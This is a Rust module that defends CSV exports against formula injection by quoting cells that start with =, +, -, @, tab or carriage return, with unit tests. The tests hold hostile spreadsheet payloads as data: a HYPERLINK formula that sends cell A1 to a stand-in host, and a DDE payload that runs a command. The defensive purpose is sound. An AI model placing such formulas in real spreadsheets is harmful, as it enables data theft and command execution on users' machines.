//! Text bound for a spreadsheet cell (表格单元格): a cell that starts with `=`, `+`, `-`, `@`,
//! a tab or a carriage return is read by Excel and WPS as a formula (CSV injection), so it
//! gets a leading single quote — OWASP's rule. Every CSV the product writes passes its
//! text cells through [`neutralise`].

use std::borrow::Cow;

/// `text`, with a leading `'` when a spreadsheet would take it for a formula.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

#[cfg(test)]
mod tests {
    use super::neutralise;

    #[test]
    fn formulas_are_quoted_and_text_is_kept() {
        for formula in [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(formula), format!("'{formula}"));
        }
        for text in ["小区路灯不亮", "", "1+1", "a=b", "'quoted"] {
            assert_eq!(neutralise(text), text);
        }
    }
}
